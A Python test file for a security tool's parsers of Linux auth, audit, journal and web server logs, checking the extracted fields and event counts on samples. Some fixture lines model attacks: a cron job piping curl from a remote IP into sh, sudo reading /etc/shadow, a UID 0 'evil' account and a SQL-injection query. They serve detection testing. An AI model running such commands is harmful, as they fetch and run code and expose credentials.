"""Logs of Linux and of web servers: lines of our own with the fields they must give, and real logs counted."""

from __future__ import annotations

import gzip
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stillhunt.telemetry.collect import Reading
from stillhunt.telemetry.recognition import recognise
from stillhunt.telemetry.source import SOURCES, LogFile

MODIFIED = datetime(2022, 3, 1, tzinfo=UTC)


def read(source, text):
    content = text if isinstance(text, bytes) else text.encode()
    log = LogFile(name="x", stream=io.BufferedReader(io.BytesIO(content)), modified=MODIFIED)
    return [found for found in SOURCES[source].read(log) if found], log


def one(source, text):
    [(event_class, row)], log = read(source, text)
    assert log.n_unread == 0
    return event_class, row


MESSAGES = {
    "a password that sshd took": (
        "sshd[1]: Accepted password for ubuntu from 192.0.2.7 port 54404 ssh2",
        {"auth", "sshd"},
        {
            "event.action": "accepted",
            "event.outcome": "success",
            "user.target.name": "ubuntu",
            "source.ip": "192.0.2.7",
        },
        {"method": "password", "user": "ubuntu", "src_ip": "192.0.2.7"},
    ),
    "an account whose name looks like the rest of the message": (
        "sshd[1]: Failed password for invalid user a from 10.0.0.1 port 1 ssh2 from 203.0.113.9 port 4 ssh2",
        {"auth", "sshd"},
        {"event.outcome": "failure", "source.ip": "203.0.113.9", "user.target.name": "a from 10.0.0.1 port 1 ssh2"},
        {"invalid_user": "true"},
    ),
    "a repetition that rsyslog sums up": (
        "sshd[1]: message repeated 2 times: [ Failed password for root from 203.0.113.9 port 5 ssh2]",
        {"auth", "sshd"},
        {"event.outcome": "failure", "source.ip": "203.0.113.9"},
        {"count": "2", "user": "root"},
    ),
    "a command by sudo": (
        "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/cat /etc/shadow",
        {"auth", "sudo"},
        {"user.name": "bob", "user.target.name": "root", "process.command_line": "/bin/cat /etc/shadow"},
        {"USER": "root", "COMMAND": "/bin/cat /etc/shadow"},
    ),
    "a refusal by PAM": (
        "sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 ruser=bob rhost=  user=bob",
        {"auth", "sudo"},
        {"event.action": "authentication failure", "event.outcome": "failure", "user.target.name": "bob"},
        {"pam_message": "authentication failure", "pam_user": "bob"},
    ),
    "a new account": (
        "useradd[22]: new user: name=evil, UID=0, GID=0, home=/home/evil, shell=/bin/bash",
        {"auth"},
        {"event.action": "new user", "user.target.name": "evil"},
        {"UID": "0", "shell": "/bin/bash"},
    ),
    "a job of cron": (
        "CRON[33]: (root) CMD (curl http://203.0.113.9/x | sh)",
        {"cron", "syslog"},
        {"user.name": "root", "process.command_line": "curl http://203.0.113.9/x | sh"},
        {"command": "curl http://203.0.113.9/x | sh"},
    ),
    "a login at Postfix": (
        "postfix/smtpd[7]: 4A1B22C3D: client=unknown[203.0.113.9], sasl_method=LOGIN, sasl_username=bob@example.org",
        {"postfix", "syslog"},
        {"source.ip": "203.0.113.9", "event.outcome": "success", "user.target.name": "bob@example.org"},
        {"sasl_method": "LOGIN", "queue_id": "4A1B22C3D"},
    ),
    "a refusal by su": (
        "su[5]: FAILED SU (to root) eve on pts/1",
        {"auth"},
        {"event.outcome": "failure", "user.name": "eve", "user.target.name": "root"},
        {"tty": "pts/1"},
    ),
}


@pytest.mark.parametrize("case", MESSAGES)
def test_messages_of_programs_have_fields(case):
    text, services, common, native = MESSAGES[case]
    event_class, row = one("syslog", f"Feb  3 13:06:56 web1 {text}\n")
    assert (event_class.product, event_class.services) == ("linux", services)
    assert common.items() <= row.common.items()
    assert native.items() <= row.native.items()
    assert (row.common["host.name"], row.at) == ("web1", datetime(2022, 2, 3, 13, 6, 56, tzinfo=UTC))


def test_a_log_without_years_ends_when_its_file_was_last_written():
    lines = "Nov  2 10:00:00 a b: x\nDec 31 23:59:58 a b: x\nJan  1 00:00:03 a b: x\n"
    rows, log = read("syslog", lines)
    assert [row.at.isoformat() for _, row in rows] == [
        "2021-11-02T10:00:00+00:00",
        "2021-12-31T23:59:58+00:00",
        "2022-01-01T00:00:03+00:00",
    ]
    assert log.n_zoneless == 3


def test_a_packed_log_and_one_in_utf_16_have_their_years_too(tmp_path):
    line = "Dec 31 23:59:58 web1 sshd[1]: Failed password for root from 203.0.113.9 port 4 ssh2\n" * 3
    (tmp_path / "a.gz").write_bytes(gzip.compress(line.encode("utf-16"), mtime=MODIFIED.timestamp()))
    (batch,) = Reading([tmp_path]).batches()
    assert {at.year for at in batch.data.column("@timestamp").to_pylist()} == {2021}


def test_structured_data_of_rfc_5424_are_fields():
    line = '<22>1 2022-01-01T00:00:07+01:00 mx1 app 77 ID47 [id@1 a="b\\"c" d="e"][x@2] hello\n'
    _, row = one("syslog", line)
    assert row.at == datetime(2021, 12, 31, 23, 0, 7, tzinfo=UTC)
    said = {
        "facility": "mail",
        "severity": "info",
        "program": "app",
        "msgid": "ID47",
        "id@1.a": 'b"c',
        "message": "hello",
    }
    assert said.items() <= row.native.items()


AUDIT = """node=db1 type=SYSCALL msg=audit(1616850416.123:4711): arch=c000003e syscall=59 success=yes exit=0 ppid=1 \
pid=2 auid=1000 uid=0 comm="bash" exe="/usr/bin/bash" key="exec"
node=db1 type=EXECVE msg=audit(1616850416.123:4711): argc=3 a0="bash" a1="-c" a2=6563686F206869207C207368
node=db1 type=CWD msg=audit(1616850416.123:4711): cwd="/root"
node=db1 type=EOE msg=audit(1616850416.123:4711):
"""


def test_records_of_one_system_call_are_put_together():
    rows, _ = read("auditd", AUDIT)
    (call, row), (_, arguments), _ = rows
    assert (call.product, call.categories, call.services) == ("linux", {"process_creation"}, {"auditd"})
    said = {"SYSCALL": "execve", "Image": "/usr/bin/bash", "CommandLine": "bash -c echo hi | sh", "User": "root"}
    assert said.items() <= row.native.items()
    assert row.common["host.name"] == "db1"
    assert arguments.native["a2"] == "echo hi | sh"


def test_a_login_in_the_audit_log_has_account_address_and_outcome():
    line = (
        "type=USER_LOGIN msg=audit(1616850420.000:4712): pid=9 uid=0 auid=4294967295 "
        'msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed\'\n'
    )
    _, row = one("auditd", line)
    expected = {"user.target.name": "root", "source.ip": "203.0.113.9", "event.outcome": "failure"}
    assert expected.items() <= row.common.items()


JOURNAL = (
    '{"__CURSOR":"c","__REALTIME_TIMESTAMP":"1616850416123456","_HOSTNAME":"Web1","SYSLOG_IDENTIFIER":"sshd",'
    '"_PID":"12","PRIORITY":"6","SYSLOG_FACILITY":"10","MESSAGE":%s}\n'
)
FAILED = "Failed password for root from 203.0.113.9 port 4"


@pytest.mark.parametrize("message", [f'"{FAILED}"', str(list(FAILED.encode()))], ids=["text", "bytes"])
def test_entries_of_the_journal_are_read_like_syslog(message):
    event_class, row = one("journald", JOURNAL % message)
    assert event_class.services == {"auth", "sshd"}
    assert {"host.name": "web1", "source.ip": "203.0.113.9", "event.outcome": "failure"}.items() <= row.common.items()
    assert (row.at, row.native["message"], row.native["severity"]) == (
        datetime(2021, 3, 27, 13, 6, 56, 123456, tzinfo=UTC),
        FAILED,
        "info",
    )


def test_audit_records_in_the_journal_are_audit_records():
    entry = (
        '{"__CURSOR":"d","__REALTIME_TIMESTAMP":"1616850416123456","_TRANSPORT":"audit","_AUDIT_ID":"42",'
        '"MESSAGE":"EXECVE argc=2 a0=\\"id\\" a1=\\"-u\\""}\n'
    )
    event_class, row = one("journald", entry)
    assert event_class.services == {"auditd"}
    assert {"type": "EXECVE", "a0": "id", "a1": "-u"}.items() <= row.native.items()


def test_the_export_of_the_journal_has_values_of_several_lines():
    content = (
        b"__CURSOR=x\n__REALTIME_TIMESTAMP=1616850416123456\nSYSLOG_IDENTIFIER=sudo\nMESSAGE\n\x30\0\0\0\0\0\0\0"
        b"bob : TTY=x ; PWD=/ ; USER=root ; COMMAND=/a b\nc\n\n__CURSOR=y\nMESSAGE=x\n\n"
    )
    rows, log = read("journald", content)
    assert [row.native["COMMAND"] for _, row in rows] == ["/a b\nc"]
    assert log.n_unread == 1


REQUESTS = {
    "combined": (
        '192.0.2.7 - bob [27/Mar/2021:13:06:56 +0100] "GET /a.php?id=1%20union HTTP/1.1" 200 512 "http://x/" "Moz"',
        {"source.ip": "192.0.2.7", "user.name": "bob", "url.path": "/a.php", "user_agent.original": "Moz"},
        {
            "cs-uri-query": "id=1%20union",
            "cs-uri": "/a.php?id=1%20union",
            "sc-status": "200",
            "cs-referer": "http://x/",
        },
    ),
    "common": (
        '192.0.2.7 - - [27/Mar/2021:13:06:56 +0100] "POST /x HTTP/1.0" 404 -',
        {"http.request.method": "POST", "http.response.status_code": "404"},
        {"cs-uri-stem": "/x"},
    ),
    "no request at all, and who stands behind a proxy": (
        '2001:db8::1 - - [27/Mar/2021:13:06:56 +0100] "\\x16\\x03\\x01" 400 0 "-" "-" "203.0.113.9"',
        {"source.ip": "203.0.113.9"},
        {"c-ip": "2001:db8::1", "cs-uri": "\\x16\\x03\\x01", "x-forwarded-for": "203.0.113.9"},
    ),
}


@pytest.mark.parametrize("case", REQUESTS)
def test_requests_have_the_fields_of_the_category(case):
    line, common, native = REQUESTS[case]
    event_class, row = one("access_log", line + "\n")
    assert event_class.categories == {"webserver"}
    assert row.at == datetime(2021, 3, 27, 12, 6, 56, tzinfo=UTC)
    assert common.items() <= row.common.items()
    assert native.items() <= row.native.items()


def test_errors_of_servers_name_client_and_request():
    nginx = (
        '2021/03/27 13:06:56 [error] 7#7: *1 open() "/x" failed (2: No file), client: 192.0.2.7, server: a.example, '
        'request: "GET /x HTTP/1.1", host: "a.example"\n'
    )
    event_class, row = one("web_error_log", nginx)
    assert event_class.product == "nginx"
    assert {"source.ip": "192.0.2.7", "url.path": "/x"}.items() <= row.common.items()
    apache = (
        "[Sat Mar 27 13:06:56.123456 2021] [core:error] [pid 12:tid 34] [client 192.0.2.7:5000] AH00126: Invalid URI\n"
    )
    event_class, row = one("web_error_log", apache)
    assert (event_class.product, row.native["code"], row.common["source.ip"]) == ("apache", "AH00126", "192.0.2.7")


@pytest.mark.parametrize("source", ["access_log", "auditd", "journald", "syslog", "web_error_log"])
@given(rubbish=st.binary(max_size=300), at=st.integers(0, 300))
def test_no_bytes_are_fatal_and_none_are_lost(source, rubbish, at):
    whole = AUDIT.encode() + (JOURNAL % '"x"').encode() + b"Feb  3 13:06:56 web1 sshd[1]: Accepted\n"
    content = whole[:at] + rubbish + whole[at:]
    rows, log = read(source, content)
    n_lines = sum(bool(line.strip(b"\r\n\x00 \t\x0b\x0c\x1c\x1d\x1e\x1f\x85")) for line in content.split(b"\n"))
    assert all(1 <= row.record <= max(n_lines * 4, 500) for _, row in rows)
    assert len(rows) + log.n_unread <= n_lines + 2


COUNTS = {
    "linux/elastic_auth.log": ("syslog", 7121),
    "linux/loghub_OpenSSH_2k.log": ("syslog", 2000),
    "web/tomcat_manager_jsp_webshell_access_log.txt": ("access_log", None),
    "web/honeynet_access_log.15": ("access_log", None),
}


@pytest.mark.parametrize("name", COUNTS)
def test_every_line_of_real_logs_is_an_event(shared_data, name):
    source, n_expected = COUNTS[name]
    path = shared_data / name
    n_lines = sum(bool(line.strip()) for line in path.read_bytes().split(b"\n"))
    reading = Reading([path])
    n_events = sum(batch.data.num_rows for batch in reading.batches())
    (file,) = reading.coverage().files
    assert (file.source, file.n_unread, n_events) == (source, 0, n_expected or n_lines)


def test_the_first_lines_of_our_samples_are_known_to_their_source_alone():
    assert recognise(AUDIT.encode()) == "auditd"
    assert recognise((JOURNAL % '"x"').encode()) == "journald"
